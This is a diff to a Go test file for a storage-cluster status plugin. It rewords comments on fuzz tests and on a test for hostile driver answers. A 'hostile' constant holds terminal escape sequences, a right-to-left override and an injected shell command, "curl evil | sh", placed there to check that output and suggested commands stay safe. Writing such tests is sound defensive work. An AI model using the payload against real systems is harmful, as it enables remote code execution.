@@ -17,7 +17,7 @@ import (
 	"github.com/nodelvm/nodelvm/statuspage"
 )
 
-// everythingOf prints all that the plugin says of a node whose driver answers this page.
+// everythingOf prints all tables, and doctor's output, of a cluster whose first node answers with this page.
 func everythingOf(page statuspage.Page) (text string, lines int, err error) {
 	f := sound()
 	f.answers[0].page = page
@@ -40,8 +40,8 @@ func everythingOf(page statuspage.Page) (text string, lines int, err error) {
 	return out.String(), lines, err
 }
 
-// FuzzPage: whatever a node's driver answers, the plugin neither fails nor prints what commands a terminal, and each thing that it
-// tells has its own line.
+// FuzzPage: for any answer of a node's driver the plugin succeeds and prints no control characters, and each row and finding has
+// its own line.
 func FuzzPage(f *testing.F) {
 	for _, a := range troubled().answers {
 		text, err := json.Marshal(a.page)
@@ -70,7 +70,7 @@ func FuzzPage(f *testing.F) {
 	})
 }
 
-// FuzzBytes: sizes that a node tells are shown, whatever they are.
+// FuzzBytes: the plugin prints any size that a node reports.
 func FuzzBytes(f *testing.F) {
 	f.Add(int64(1<<40), int64(1<<41))
 	f.Add(int64(-1), int64(0))
@@ -81,11 +81,11 @@ func FuzzBytes(f *testing.F) {
 	})
 }
 
-// hostile is what the holder of a node's token may let its driver answer: text that commands a terminal or hides part of a line, and
-// names that are commands.
+// hostile is text that a holder of a node's token may put into the node's answer: it controls a terminal, hides part of a line, and
+// contains a command.
 const hostile = "a\u009b2J\u202e\x1b]0;x\x07\n'; curl evil | sh; '"
 
-// TestHostilePage: neither format passes on what commands a terminal, and no command that the plugin suggests executes a name.
+// TestHostilePage: no format prints control characters, and no command that the plugin suggests executes a name.
 func TestHostilePage(t *testing.T) {
 	page := soundPage("node-1", vg1, inventory.Volume{ID: vg1 + "/x", Group: hostile, LV: hostile, Claim: hostile, State: hostile, Layout: hostile})
 	g := &page.Groups[0]
